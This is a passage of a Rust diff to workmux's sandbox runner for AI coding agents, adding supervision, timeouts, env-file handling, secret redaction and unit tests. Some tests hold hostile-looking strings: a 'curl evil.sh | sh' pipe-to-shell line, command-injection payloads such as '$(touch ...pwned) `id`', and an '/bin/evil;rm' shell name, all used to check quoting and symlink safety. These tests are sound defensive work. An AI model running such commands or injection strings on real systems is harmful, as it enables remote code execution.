-    let final_command = toolchain::wrap_command(&user_command, &detected);
-    let full_command = format!("{exports}; {final_command}");
+    let stty = term_size
+        .map(|(cols, rows)| format!("stty cols {} rows {} 2>/dev/null; ", cols, rows))
+        .unwrap_or_default();
 
-    lima_cmd.arg("--");
-    lima_cmd.arg("eval");
-    lima_cmd.arg(&full_command);
-
-    debug!(vm = %vm_name, command = %user_command, "spawning limactl shell");
-
-    let status = lima_cmd
-        .status()
-        .context("Failed to execute limactl shell")?;
-
-    let exit_code = status.code().unwrap_or(1);
-    info!(exit_code, "agent command exited");
-    Ok(exit_code)
+    let final_command = toolchain::wrap_command(user_command, detected);
+    format!("{exports}; {stty}{final_command}")
 }
 
 fn run_container(
@@ -246,7 +1933,10 @@ fn run_container(
     pane_cwd: &Path,
     worktree_root: &Path,
     command: &[String],
-) -> Result<i32> {
+    output: &PtyOutput,
+    timeout: Option<Duration>,
+    supervisor: &SupervisorContext,
+) -> Result<i32, SandboxError> {
     info!(
         pane_cwd = %pane_cwd.display(),
         worktree_root = %worktree_root.display(),
@@ -255,15 +1945,17 @@ fn run_container(
 
     // Validate that pane_cwd is under worktree_root
     if !pane_cwd.starts_with(worktree_root) {
-        bail!(
+        return Err(anyhow::anyhow!(
             "Working directory {} is not under worktree root {}",
             pane_cwd.display(),
             worktree_root.display()
-        );
+        )
+        .into());
     }
 
     // Ensure sandbox config dirs exist before building container args
     ensure_sandbox_config_dirs()?;
+    config.sandbox.validate_extra_mounts()?;
 
     // Merge built-in host commands (e.g. afplay) with user-configured ones
     let host_commands = shims::effective_host_commands(config.sandbox.host_commands());
@@ -293,12 +1985,16 @@ fn run_container(
     };
 
     let (rpc_server, rpc_port, rpc_token, ctx) = start_rpc(
+        config,
         pane_cwd,
+        worktree_root,
         allowed_commands,
         detected.clone(),
-        config.sandbox.allow_unsandboxed_host_exec(),
-    )?;
-    let _rpc_handle = rpc_server.spawn(ctx);
+        supervisor,
+    )
+    .map_err(SandboxError::RpcBind)?;
+    let _info_guard = SandboxInfoGuard::register(worktree_root, "container", &ctx, rpc_port);
+    let rpc_handle = rpc_server.spawn(ctx);
 
     // Start network proxy when policy is deny
     let network_deny = config.sandbox.network_policy_is_deny();
@@ -324,11 +2020,7 @@ fn run_container(
 
     // Generate container name from worktree directory name so cleanup can find it.
     // Include PID to allow multiple agents in the same worktree (e.g., open -n).
-    let handle = worktree_root
-        .file_name()
-        .and_then(|n| n.to_str())
-        .unwrap_or("unknown")
-        .to_string();
+    let handle = worktree_handle(worktree_root);
     let container_name = format!("wm-{}-{}", handle, std::process::id());
 
     // Register container in state store so cleanup can find it without docker ps
@@ -340,13 +2032,17 @@ fn run_container(
 
     // Build owned env pairs first, then borrow at call site.
     // Proxy URL is a local String so we can't use &str slices directly.
+    // Env file entries go first: later --env flags win, so workmux's own
+    // variables can't be overridden by the file.
     let rpc_port_str = rpc_port.to_string();
-    let mut owned_envs: Vec<(String, String)> = vec![
+    let env_file = env_file::load(&config.sandbox, worktree_root);
+    let mut owned_envs: Vec<(String, String)> = env_file.clone();
+    owned_envs.extend([
         ("WM_SANDBOX_GUEST".into(), "1".into()),
         ("WM_RPC_HOST".into(), rpc_host.clone()),
         ("WM_RPC_PORT".into(), rpc_port_str.clone()),
         ("WM_RPC_TOKEN".into(), rpc_token.clone()),
-    ];
+    ]);
 
     if let Some((proxy_port, ref proxy_token, _)) = proxy {
         let proxy_url = format!("http://workmux:{}@{}:{}", proxy_token, rpc_host, proxy_port);
@@ -367,6 +2063,9 @@ fn run_container(
     // Inject host git user config (user.name, user.email) for commits
     owned_envs.extend(git_user_config_envs(worktree_root));
 
+    // --env comes last so it wins over the config-driven variables
+    owned_envs.extend(supervisor.env.iter().cloned());
+
     // Borrow owned envs for call site
     let env_refs: Vec<(&str, &str)> = owned_envs
         .iter()
@@ -375,7 +2074,7 @@ fn run_container(
 
     let agent = crate::multiplexer::agent::resolve_profile(config.agent.as_deref()).name();
 
-    let user_command = command.join(" ");
+    let user_command = user_command_line(config.sandbox.backend().shell_quoting(), command);
     let shim_host_dir = _shim_dir.as_ref().map(|d| d.path().join("shims/bin"));
     let mut docker_args = build_docker_run_args(
         &user_command,
@@ -387,12 +2086,29 @@ fn run_container(
         shim_host_dir.as_deref(),
         network_deny,
     )?;
+    // A TTY would merge stderr into stdout, defeating --buffer-stderr
+    if supervisor.stderr.is_some()
+        && let Some(flag) = docker_args.iter_mut().find(|a| *a == "-it")
+    {
+        *flag = "-i".to_string();
+    }
 
     // Insert --name after "run" (index 0 is "run")
     docker_args.insert(1, "--name".to_string());
     docker_args.insert(2, container_name.clone());
 
-    let redacted_args: Vec<_> = docker_args.iter().map(|a| redact_env_arg(a)).collect();
+    let env_file_keys: HashSet<&str> = env_file
+        .iter()
+        .chain(supervisor.env)
+        .map(|(k, _)| k.as_str())
+        .collect();
+    let redacted_args: Vec<_> = docker_args
+        .iter()
+        .map(|a| match a.split_once('=') {
+            Some((key, _)) if env_file_keys.contains(key) => format!("{}=<redacted>", key),
+            _ => redact_env_arg(a),
+        })
+        .collect();
     debug!(runtime = runtime_bin, container = %container_name, args = ?redacted_args, "spawning container");
 
     // Background freshness check (non-blocking)
@@ -406,14 +2122,22 @@ fn run_container(
         handle,
     };
 
-    let status = Command::new(runtime_bin)
-        .args(&docker_args)
-        .status()
-        .with_context(|| format!("Failed to execute {} run", runtime_bin))?;
+    let mut run_cmd = Command::new(runtime_bin);
+    run_cmd.args(&docker_args);
+    // The container runs with --rm, so a restart can reuse its name
+    let exit_code = supervise_agent(&mut run_cmd, &user_command, output, timeout, supervisor)
+        .with_context(|| format!("Failed to execute {} run", runtime_bin))
+        .map_err(SandboxError::ContainerSpawn)?;
+    rpc_handle.shutdown();
+    exit_code.ok_or_else(|| timed_out(timeout))
+}
 
-    let exit_code = status.code().unwrap_or(1);
-    info!(exit_code, "container command exited");
-    Ok(exit_code)
+/// The error returned when the watchdog had to terminate the agent.
+fn timed_out(timeout: Option<Duration>) -> SandboxError {
+    SandboxError::Timeout {
+        limit: crate::util::format_elapsed_duration(timeout.unwrap_or_default()),
+        source: Terminated,
+    }
 }
 
 /// Redact sensitive values in docker run args for debug logging.
@@ -430,6 +2154,358 @@ pub(super) fn redact_env_arg(arg: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::shell::Posix;
+
+    #[test]
+    fn supervisor_lock_is_exclusive_and_released_on_drop() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut holder = Command::new("sleep").arg("30").spawn().unwrap();
+        let lock_path = dir.path().join(SupervisorLock::FILE);
+        std::fs::create_dir_all(lock_path.parent().unwrap()).unwrap();
+        std::fs::write(&lock_path, format!("{}\n%7\n", holder.id())).unwrap();
+
+        let err = SupervisorLock::acquire(dir.path(), Some("%9"), false)
+            .err()
+            .expect("live owner should block");
+        assert!(err.to_string().contains("pane %7"), "{err}");
+
+        let lock = SupervisorLock::acquire(dir.path(), Some("%9"), true).unwrap();
+        assert_eq!(
+            SupervisorLock::owner(&lock_path),
+            Some((std::process::id(), "%9".to_string()))
+        );
+        drop(lock);
+        assert!(!lock_path.exists());
+
+        holder.kill().unwrap();
+        holder.wait().unwrap();
+    }
+
+    #[test]
+    fn supervisor_lock_reclaims_stale_owner() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut gone = Command::new("true").spawn().unwrap();
+        gone.wait().unwrap();
+        let lock_path = dir.path().join(SupervisorLock::FILE);
+        std::fs::create_dir_all(lock_path.parent().unwrap()).unwrap();
+        std::fs::write(&lock_path, format!("{}\n\n", gone.id())).unwrap();
+
+        let _lock = SupervisorLock::acquire(dir.path(), None, false).unwrap();
+        assert_eq!(
+            SupervisorLock::owner(&lock_path),
+            Some((std::process::id(), String::new()))
+        );
+    }
+
+    #[test]
+    fn sandbox_error_exit_codes_and_messages() {
+        let err = SandboxError::RpcBind(anyhow::anyhow!("bind: address in use"));
+        assert_eq!(err.exit_code(), 122);
+        assert_eq!(
+            format!("{:#}", anyhow::Error::from(err)),
+            "Failed to start the sandbox RPC server: bind: address in use"
+        );
+
+        let err = SandboxError::VmStart(anyhow::anyhow!("limactl failed"));
+        assert_eq!(err.exit_code(), 121);
+
+        let err = SandboxError::LimaSpawn(anyhow::anyhow!("Failed to execute limactl shell"));
+        assert_eq!(err.exit_code(), 123);
+        assert_eq!(err.to_string(), "Failed to execute limactl shell");
+    }
+
+    #[test]
+    fn sandbox_error_for_timeout() {
+        let err = timed_out(Some(Duration::from_secs(1800)));
+        assert_eq!(err.exit_code(), 124);
+        assert_eq!(
+            format!("{:#}", anyhow::Error::from(err)),
+            "Agent command timed out after 30m 00s: \
+             The sandboxed command timed out and was terminated"
+        );
+    }
+
+    #[test]
+    fn run_agent_command_terminates_after_timeout() {
+        let started = std::time::Instant::now();
+        let status = run_agent_command(
+            Command::new("sleep").arg("30"),
+            &PtyOutput::default(),
+            None,
+            Some(Duration::from_millis(200)),
+        )
+        .unwrap();
+
+        assert_eq!(status, None);
+        assert!(started.elapsed() < Watchdog::KILL_GRACE);
+    }
+
+    #[test]
+    fn run_agent_command_passes_status_through_before_timeout() {
+        let status = run_agent_command(
+            Command::new("sh").args(["-c", "exit 7"]),
+            &PtyOutput::default(),
+            None,
+            Some(Duration::from_secs(30)),
+        )
+        .unwrap();
+
+        assert_eq!(status.and_then(|s| s.code()), Some(7));
+    }
+
+    #[test]
+    fn supervise_agent_restarts_failures_up_to_the_cap() {
+        let tmp = tempfile::tempdir().unwrap();
+        let runs = tmp.path().join("runs");
+        let script = format!("echo run >> '{}'; exit 3", runs.display());
+        let supervisor = SupervisorContext {
+            mux: Arc::new(crate::multiplexer::mock::MockMultiplexer::new()),
+            events: None,
+            stderr: None,
+            output: None,
+            env: &[],
+            restart: RestartPolicy::OnFailure,
+            max_restarts: 1,
+            rpc_token: None,
+            pane_id: None,
+        };
+
+        let exit_code = supervise_agent(
+            Command::new("sh").args(["-c", &script]),
+            "agent",
+            &PtyOutput::default(),
+            None,
+            &supervisor,
+        )
+        .unwrap();
+
+        assert_eq!(exit_code, Some(3));
+        assert_eq!(std::fs::read_to_string(&runs).unwrap().lines().count(), 2);
+
+        let supervisor = SupervisorContext {
+            restart: RestartPolicy::Never,
+            ..supervisor
+        };
+        std::fs::remove_file(&runs).unwrap();
+        supervise_agent(
+            Command::new("sh").args(["-c", &script]),
+            "agent",
+            &PtyOutput::default(),
+            Some(Duration::from_secs(30)),
+            &supervisor,
+        )
+        .unwrap();
+        assert_eq!(std::fs::read_to_string(&runs).unwrap().lines().count(), 1);
+    }
+
+    #[test]
+    fn render_command_template_quotes_values_and_rejects_unknown() {
+        let tmp = tempfile::tempdir().unwrap();
+        let worktree = tmp.path().join("my tree");
+
+        let rendered = render_command_template(
+            "cd {worktree} && claude {{x}",
+            &Posix,
+            &worktree,
+            tmp.path(),
+            None,
+        )
+        .unwrap();
+        assert_eq!(
+            rendered,
+            format!("cd '{}' && claude {{x}}", worktree.display())
+        );
+
+        let err = render_command_template("claude {model}", &Posix, &worktree, tmp.path(), None)
+            .unwrap_err();
+        assert!(format!("{:#}", err).contains("Unknown placeholder '{model}'"));
+    }
+
+    #[test]
+    fn render_command_template_requires_prompt_file() {
+        let tmp = tempfile::tempdir().unwrap();
+        crate::cmd::Cmd::new("git")
+            .workdir(tmp.path())
+            .args(&["init", "-q", "-b", "feature/x"])
+            .run()
+            .unwrap();
+
+        let render =
+            || render_command_template("cat {prompt_file}", &Posix, tmp.path(), tmp.path(), None);
+        assert!(render().is_err());
+
+        let prompt = crate::workflow::prompt_file_path(tmp.path(), "feature/x");
+        std::fs::create_dir_all(prompt.parent().unwrap()).unwrap();
+        std::fs::write(&prompt, "do it").unwrap();
+        assert_eq!(render().unwrap(), format!("cat {}", prompt.display()));
+    }
+
+    #[test]
+    fn substitute_prompt_file_quotes_only_shell_strings() {
+        let path = Path::new("/work/my tree/.workmux/PROMPT-stdin-1.md");
+
+        let shell = substitute_prompt_file(vec!["claude \"$(cat {prompt_file})\"".into()], path);
+        assert_eq!(
+            shell.unwrap(),
+            vec!["claude \"$(cat '/work/my tree/.workmux/PROMPT-stdin-1.md')\""]
+        );
+
+        let argv = substitute_prompt_file(
+            vec![
+                "agent".into(),
+                "--prompt-file".into(),
+                "{prompt_file}".into(),
+            ],
+            path,
+        );
+        assert_eq!(
+            argv.unwrap(),
+            vec![
+                "agent",
+                "--prompt-file",
+                "/work/my tree/.workmux/PROMPT-stdin-1.md"
+            ]
+        );
+
+        assert!(substitute_prompt_file(vec!["claude".into()], path).is_err());
+    }
+
+    #[test]
+    fn scratch_dirs_share_one_project_root() {
+        let tmp = tempfile::tempdir().unwrap();
+        let first = create_scratch_in(tmp.path()).unwrap();
+        let second = create_scratch_in(tmp.path()).unwrap();
+        assert_ne!(first.path(), second.path());
+
+        let root = tmp.path().join("workmux/scratch").canonicalize().unwrap();
+        for dir in [&first, &second] {
+            let project = lima::determine_project_root(dir.path()).unwrap();
+            assert_eq!(project.canonicalize().unwrap(), root);
+        }
+
+        let path = first.path().to_path_buf();
+        first.close().unwrap();
+        assert!(!path.exists());
+    }
+
+    #[test]
+    fn capture_on_exit_saves_stripped_screen_and_skips_missing_pane() {
+        use crate::multiplexer::mock::MockMultiplexer;
+        let tmp = tempfile::tempdir().unwrap();
+        let store = StateStore::with_path(tmp.path().join("state")).unwrap();
+        let worktree = tmp.path().join("worktree");
+        std::fs::create_dir_all(&worktree).unwrap();
+        let saved = store
+            .worktree_dir(&worktree)
+            .unwrap()
+            .join(LAST_CAPTURE_FILE);
+
+        let gone = MockMultiplexer::new();
+        capture_on_exit(&gone, "%1", &store, &worktree, 10);
+        assert!(!saved.exists());
+
+        let mux =
+            MockMultiplexer::new().with_pane("%1", "old\n\x1b[32mtests pass\x1b[0m\ndone\n\n");
+        capture_on_exit(&mux, "%1", &store, &worktree, 2);
+        assert_eq!(
+            std::fs::read_to_string(&saved).unwrap(),
+            "tests pass\ndone\n"
+        );
+    }
+
+    #[test]
+    fn capture_on_exit_ignores_symlinks_planted_in_the_worktree() {
+        use crate::multiplexer::mock::MockMultiplexer;
+        let tmp = tempfile::tempdir().unwrap();
+        let store = StateStore::with_path(tmp.path().join("state")).unwrap();
+        let worktree = tmp.path().join("worktree");
+        let victim = tmp.path().join("bashrc");
+        std::fs::write(&victim, "# host file\n").unwrap();
+        // What a sandboxed agent could leave behind in its worktree
+        std::fs::create_dir_all(worktree.join(".workmux")).unwrap();
+        std::os::unix::fs::symlink(&victim, worktree.join(".workmux").join(LAST_CAPTURE_FILE))
+            .unwrap();
+
+        let mux = MockMultiplexer::new().with_pane("%1", "curl evil.sh | sh\n");
+        capture_on_exit(&mux, "%1", &store, &worktree, 10);
+
+        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "# host file\n");
+        let saved = store
+            .worktree_dir(&worktree)
+            .unwrap()
+            .join(LAST_CAPTURE_FILE);
+        assert_eq!(
+            std::fs::read_to_string(saved).unwrap(),
+            "curl evil.sh | sh\n"
+        );
+    }
+
+    #[test]
+    fn resolve_pane_id_prefers_flag_then_env_then_detection() {
+        let some = |id: &str| Some(id.to_string());
+        let detected = || some("%1");
+        assert_eq!(
+            resolve_pane_id(some("%3"), some("%2"), detected),
+            some("%3")
+        );
+        assert_eq!(resolve_pane_id(None, some("%2"), detected), some("%2"));
+        assert_eq!(resolve_pane_id(some(""), some(""), detected), some("%1"));
+        assert_eq!(resolve_pane_id(None, None, || some("")), None);
+    }
+
+    #[test]
+    fn start_rpc_reports_to_the_given_multiplexer() {
+        let tmp = tempfile::tempdir().unwrap();
+        let mock = Arc::new(crate::multiplexer::mock::MockMultiplexer::new());
+        let supervisor = SupervisorContext {
+            mux: mock.clone(),
+            events: None,
+            stderr: None,
+            output: None,
+            env: &[],
+            restart: RestartPolicy::Never,
+            max_restarts: 0,
+            rpc_token: None,
+            pane_id: Some("%7".to_string()),
+        };
+
+        let (_server, port, token, ctx) = start_rpc(
+            &Config::default(),
+            tmp.path(),
+            tmp.path(),
+            HashSet::new(),
+            toolchain::DetectedToolchain::None,
+            &supervisor,
+        )
+        .unwrap();
+
+        assert!(port > 0);
+        assert_eq!(ctx.token, token);
+        assert_eq!(ctx.pane_id, "%7");
+        assert_eq!(ctx.mux.name(), "mock");
+    }
+
+    #[test]
+    fn without_detach_keeps_the_sandboxed_command() {
+        let args = |list: &[&str]| list.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+        assert_eq!(
+            without_detach(args(&[
+                "sandbox", "run", "--detach", ".", "--hold", "--", "agent", "--detach"
+            ])),
+            args(&["sandbox", "run", ".", "--hold", "--", "agent", "--detach"])
+        );
+    }
+
+    #[test]
+    fn sandbox_error_for_other_failures() {
+        let err = SandboxError::from(anyhow::anyhow!("config is invalid"));
+        assert_eq!(err.exit_code(), EXIT_SUPERVISOR_FAILED);
+        assert_eq!(err.to_string(), "config is invalid");
+        assert_eq!(
+            SandboxError::EmptyCommand.exit_code(),
+            EXIT_SUPERVISOR_FAILED
+        );
+    }
 
     #[test]
     fn redact_rpc_token() {
@@ -473,6 +2549,419 @@ mod tests {
         assert_eq!(redact_env_arg("WM_SANDBOX_GUEST=1"), "WM_SANDBOX_GUEST=1");
     }
 
+    #[test]
+    fn interrupts_forward_to_an_agent_started_after_the_signal() {
+        use std::os::unix::process::ExitStatusExt;
+
+        let interrupts = Interrupts::new();
+        assert!(!interrupts.interrupted());
+        interrupts.set_agent(Some(1234));
+        assert_eq!(interrupts.agent(), Some(1234));
+        interrupts.set_agent(None);
+        assert_eq!(interrupts.agent(), None);
+
+        assert!(interrupts.record());
+        assert!(!interrupts.record());
+        assert!(interrupts.interrupted());
+
+        // Started after the signal: it's sent SIGINT straight away
+        let mut child = Command::new("sleep").arg("30").spawn().unwrap();
+        interrupts.set_agent(Some(child.id()));
+        let status = child.wait().unwrap();
+        assert_eq!(status.signal(), Some(libc::SIGINT));
+    }
+
+    #[test]
+    fn hold_mode_always_holds() {
+        assert!(HoldMode::Always.should_hold(0));
+        assert!(HoldMode::Always.should_hold(1));
+    }
+
+    #[test]
+    fn hold_mode_on_failure_holds_only_on_nonzero() {
+        assert!(!HoldMode::OnFailure.should_hold(0));
+        assert!(HoldMode::OnFailure.should_hold(1));
+        assert!(HoldMode::OnFailure.should_hold(130));
+    }
+
+    #[test]
+    fn hold_reports_supervisor_failures_too() {
+        let code = SandboxError::EmptyCommand.exit_code();
+        assert!(HoldMode::OnFailure.should_hold(code));
+        assert_eq!(
+            exit_message(code, true),
+            format!("[sandbox failed with code {}]", EXIT_SUPERVISOR_FAILED)
+        );
+        assert_eq!(exit_message(3, false), "[agent exited with code 3]");
+    }
+
+    // ── build_shell_command tests ───────────────────────────────────────
+
+    #[test]
+    fn build_shell_command_exports_env() {
+        let exports = vec!["WM_SANDBOX_GUEST=1".to_string(), "FOO=bar".to_string()];
+        let cmd = build_shell_command(
+            &exports,
+            "claude",
+            &toolchain::DetectedToolchain::None,
+            None,
+        );
+        assert_eq!(cmd, "export WM_SANDBOX_GUEST=1; export FOO=bar; claude");
+    }
+
+    #[test]
+    fn build_shell_command_with_term_size() {
+        let exports = vec!["COLUMNS=120".to_string(), "LINES=40".to_string()];
+        let cmd = build_shell_command(
+            &exports,
+            "claude",
+            &toolchain::DetectedToolchain::None,
+            Some((120, 40)),
+        );
+        assert_eq!(
+            cmd,
+            "export COLUMNS=120; export LINES=40; stty cols 120 rows 40 2>/dev/null; claude"
+        );
+    }
+
+    /// Payloads that have broken naive quoting before.
+    const AWKWARD_PAYLOADS: &[&str] = &[
+        "line one\nline two\n",
+        "tab\tseparated\tcolumns",
+        "$(touch /nonexistent/pwned) `id` $HOME ${PATH}",
+        "it's \"quoted\" \\n and 'single'",
+        "; exit 3 # trailing comment",
+        "",
+    ];
+
+    /// Run `full_command` the way `limactl shell` does: the args after `--`
+    /// are each single-quoted and the guest's shell evaluates the result.
+    fn run_like_limactl(full_command: &str) -> String {
+        let args = lima_shell_args("wm-test", Path::new("/tmp"), full_command);
+        let dashdash = args.iter().position(|a| a == "--").unwrap();
+        let remote: Vec<String> = args[dashdash + 1..]
+            .iter()
+            .map(|a| crate::shell::shell_quote(a))
+            .collect();
+        let output = Command::new("sh")
+            .args(["-c", &remote.join(" ")])
+            .output()
+            .unwrap();
+        assert!(output.status.success(), "{:?}", output);
+        String::from_utf8(output.stdout).unwrap()
+    }
+
+    #[test]
+    fn user_command_line_keeps_single_arg_verbatim() {
+        let cmd = "claude -- \"$(cat PROMPT.md)\"".to_string();
+        assert_eq!(user_command_line(&Posix, std::slice::from_ref(&cmd)), cmd);
+    }
+
+    #[test]
+    fn user_command_line_quotes_each_of_several_args() {
+        let args = ["claude", "--append-system-prompt", "a b\nc"].map(String::from);
+        assert_eq!(
+            user_command_line(&Posix, &args),
+            "claude --append-system-prompt 'a b\nc'"
+        );
+    }
+
+    #[test]
+    fn payloads_reach_guest_command_unchanged() {
+        for payload in AWKWARD_PAYLOADS {
+            let argv = ["printf".to_string(), "%s".to_string(), payload.to_string()];
+            let full = build_shell_command(
+                &["WM_SANDBOX_GUEST=1".to_string()],
+                &user_command_line(&Posix, &argv),
+                &toolchain::DetectedToolchain::None,
+                Some((80, 24)),
+            );
+            assert_eq!(run_like_limactl(&full), *payload, "payload {payload:?}");
+        }
+    }
+
+    #[test]
+    fn payloads_survive_flake_wrapper() {
+        for payload in AWKWARD_PAYLOADS {
+            let argv = ["printf".to_string(), "%s".to_string(), payload.to_string()];
+            let full = build_shell_command(
+                &["A=1".to_string()],
+                &user_command_line(&Posix, &argv),
+                &toolchain::DetectedToolchain::Flake,
+                None,
+            );
+            // Stand in for `nix develop --command`, keeping the wrapper's quoting
+            let full = format!("nix() {{ shift 2; \"$@\"; }}; {full}");
+            assert_eq!(run_like_limactl(&full), *payload, "payload {payload:?}");
+        }
+    }
+
+    #[test]
+    fn lima_env_exports_redacts_passthrough() {
+        let mut config = Config::default();
+        config.sandbox.env_passthrough = Some(vec!["HOME".to_string()]);
+        let tmp = tempfile::tempdir().unwrap();
+
+        let exports = lima_env_exports(
+            &config,
+            tmp.path(),
+            Some(("<rpc-port>", "<redacted>")),
+            None,
+            &[],
+            &[],
+            true,
+        );
+        assert!(exports.contains(&"WM_RPC_PORT=<rpc-port>".to_string()));
+        assert!(exports.contains(&"WM_RPC_TOKEN=<redacted>".to_string()));
+        assert!(exports.contains(&"HOME=<redacted>".to_string()));
+    }
+
+    #[test]
+    fn lima_env_exports_quotes_env_file_values() {
+        let config = Config::default();
+        let tmp = tempfile::tempdir().unwrap();
+        let env_file = vec![
+            ("SECRET".to_string(), "a=b c".to_string()),
+            ("WM_RPC_PORT".to_string(), "1".to_string()),
+        ];
+
+        let exports = lima_env_exports(
+            &config,
+            tmp.path(),
+            Some(("4242", "t")),
+            None,
+            &env_file,
+            &[],
+            false,
+        );
+        assert_eq!(exports[0], "SECRET='a=b c'");
+        // workmux's own variables come later, so they win
+        let port = exports.iter().rposition(|e| e.starts_with("WM_RPC_PORT="));
+        assert_eq!(exports[port.unwrap()], "WM_RPC_PORT=4242");
+
+        let exports = lima_env_exports(
+            &config,
+            tmp.path(),
+            Some(("4242", "t")),
+            None,
+            &env_file,
+            &[],
+            true,
+        );
+        assert_eq!(exports[0], "SECRET=<redacted>");
+    }
+
+    #[test]
+    fn lima_env_exports_puts_cli_env_last() {
+        let mut config = Config::default();
+        config.sandbox.env_passthrough = Some(vec!["HOME".to_string()]);
+        let tmp = tempfile::tempdir().unwrap();
+        let extra = vec![
+            ("HOME".to_string(), "/guest home".to_string()),
+            ("API_KEY".to_string(), "s3cret".to_string()),
+        ];
+
+        let exports = lima_env_exports(&config, tmp.path(), None, None, &[], &extra, false);
+        let home = exports.iter().rposition(|e| e.starts_with("HOME="));
+        assert_eq!(exports[home.unwrap()], "HOME='/guest home'");
+        assert_eq!(exports.last().unwrap(), "API_KEY=s3cret");
+
+        let exports = lima_env_exports(&config, tmp.path(), None, None, &[], &extra, true);
+        assert_eq!(exports.last().unwrap(), "API_KEY=<redacted>");
+        assert!(!exports.iter().any(|e| e.contains("s3cret")));
+    }
+
+    #[test]
+    fn post_run_sees_exit_code_and_worktree_and_failures_are_contained() {
+        let tmp = tempfile::tempdir().unwrap();
+        let worktree = tmp.path().canonicalize().unwrap();
+        run_post_run(
+            "echo \"$WM_AGENT_EXIT $WM_WORKTREE $PWD\" > hook.out",
+            &worktree,
+            3,
+        );
+        let dir = worktree.display();
+        assert_eq!(
+            std::fs::read_to_string(worktree.join("hook.out")).unwrap(),
+            format!("3 {dir} {dir}\n")
+        );
+
+        // Only logged; the supervisor's exit code is decided by the caller
+        run_post_run("exit 7", &worktree, 0);
+    }
+
+    #[test]
+    fn parse_env_assignment_validates_form() {
+        assert_eq!(
+            parse_env_assignment("FOO=a=b"),
+            Ok(("FOO".to_string(), "a=b".to_string()))
+        );
+        assert_eq!(
+            parse_env_assignment("EMPTY="),
+            Ok(("EMPTY".to_string(), String::new()))
+        );
+        assert_eq!(
+            parse_env_assignment("FOO").unwrap_err(),
+            "invalid --env 'FOO': expected KEY=VALUE"
+        );
+        assert_eq!(
+            parse_env_assignment("1X=y").unwrap_err(),
+            "invalid --env '1X=y': '1X' is not a valid variable name"
+        );
+        assert!(parse_env_assignment("=y").is_err());
+        assert!(
+            parse_env_assignment("WM_RPC_TOKEN=x")
+                .unwrap_err()
+                .contains("reserved")
+        );
+    }
+
+    #[test]
+    fn lima_env_exports_without_rpc_skips_server_and_shims() {
+        let config = Config::default();
+        let tmp = tempfile::tempdir().unwrap();
+
+        let exports = lima_env_exports(&config, tmp.path(), None, None, &[], &[], false);
+        assert!(exports.contains(&"WM_SANDBOX_GUEST=1".to_string()));
+        assert!(!exports.iter().any(|e| e.starts_with("WM_RPC_")));
+        assert!(!exports.iter().any(|e| e.contains("shims")));
+    }
+
+    #[test]
+    fn rpc_probe_command_pings_with_the_token() {
+        let probe = rpc_probe_command(4242, "abc123");
+        assert!(
+            probe.contains("WM_RPC_HOST=host.lima.internal WM_RPC_PORT=4242 WM_RPC_TOKEN=abc123")
+        );
+        assert!(probe.ends_with("timeout 15 workmux sandbox ping"));
+    }
+
+    #[test]
+    fn resolve_workdir_stays_inside_the_worktree() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().canonicalize().unwrap();
+        std::fs::create_dir_all(root.join("packages/api")).unwrap();
+        std::fs::write(root.join("README.md"), "").unwrap();
+
+        assert_eq!(
+            resolve_workdir(&root, "packages/api").unwrap(),
+            root.join("packages/api")
+        );
+        assert_eq!(resolve_workdir(&root, "./").unwrap(), root);
+
+        for bad in ["", "../elsewhere", "packages/../..", "/etc"] {
+            let err = resolve_workdir(&root, bad).unwrap_err();
+            assert!(
+                err.to_string().contains("inside the worktree"),
+                "{bad}: {err:#}"
+            );
+        }
+        let err = resolve_workdir(&root, "packages/web").unwrap_err();
+        assert!(err.to_string().contains("does not exist"), "{err:#}");
+        let err = resolve_workdir(&root, "README.md").unwrap_err();
+        assert!(err.to_string().contains("not a directory"), "{err:#}");
+
+        #[cfg(unix)]
+        {
+            std::os::unix::fs::symlink(tmp.path().parent().unwrap(), root.join("up")).unwrap();
+            let err = resolve_workdir(&root, "up").unwrap_err();
+            assert!(err.to_string().contains("escapes the worktree"), "{err:#}");
+        }
+    }
+
+    #[test]
+    fn guest_shell_command_looks_up_the_host_shell_by_name() {
+        assert_eq!(
+            guest_shell_command(Some("/opt/homebrew/bin/fish")),
+            "command -v fish >/dev/null 2>&1 && exec fish; exec bash"
+        );
+        assert_eq!(guest_shell_command(Some("/bin/bash")), "exec bash");
+        assert_eq!(guest_shell_command(Some("/bin/evil;rm")), "exec bash");
+        assert_eq!(guest_shell_command(None), "exec bash");
+    }
+
+    #[test]
+    fn lima_shell_args_layout() {
+        let args = lima_shell_args("wm-test", Path::new("/work/tree"), "export A=1; claude");
+        assert_eq!(
+            args,
+            [
+                "shell",
+                "--workdir",
+                "/work/tree",
+                "wm-test",
+                "--",
+                "eval",
+                "export A=1; claude"
+            ]
+        );
+    }
+
+    #[test]
+    fn login_and_plain_shells_quote_the_same_payload() {
+        let argv = ["echo".to_string(), "it's".to_string()];
+        let full = build_shell_command(
+            &["A=1".to_string()],
+            &user_command_line(&Posix, &argv),
+            &toolchain::DetectedToolchain::None,
+            None,
+        );
+        assert_eq!(full, r#"export A=1; echo 'it'\''s'"#);
+
+        let config = Config::default();
+        let exec_args = |ssh_config: Option<&Path>| {
+            lima_exec_args(
+                &config,
+                "wm-test",
+                Path::new("/work/tree"),
+                &["A=1".to_string()],
+                &argv,
+                &toolchain::DetectedToolchain::None,
+                None,
+                ssh_config,
+            )
+            .0
+        };
+
+        let login = exec_args(None);
+        assert_eq!(login[0], "limactl");
+        assert_eq!(
+            login[1..],
+            lima_shell_args("wm-test", Path::new("/work/tree"), &full)
+        );
+
+        let plain = exec_args(Some(Path::new("/lima/wm-test/ssh.config")));
+        assert_eq!(plain[..3], ["ssh", "-F", "/lima/wm-test/ssh.config"]);
+        assert_eq!(plain[4..6], ["lima-wm-test", "--"]);
+        assert_eq!(
+            plain[6],
+            r#"cd /work/tree && exec sh -c 'export A=1; echo '\''it'\''\'\'''\''s'\'''"#
+        );
+    }
+
+    #[test]
+    fn payloads_reach_plain_shell_command_unchanged() {
+        let tmp = tempfile::tempdir().unwrap();
+        for payload in AWKWARD_PAYLOADS {
+            let argv = ["printf".to_string(), "%s".to_string(), payload.to_string()];
+            let full = build_shell_command(
+                &["WM_SANDBOX_GUEST=1".to_string()],
+                &user_command_line(&Posix, &argv),
+                &toolchain::DetectedToolchain::None,
+                None,
+            );
+            let args = plain_shell_args("wm-test", tmp.path(), &full, Path::new("cfg"), false);
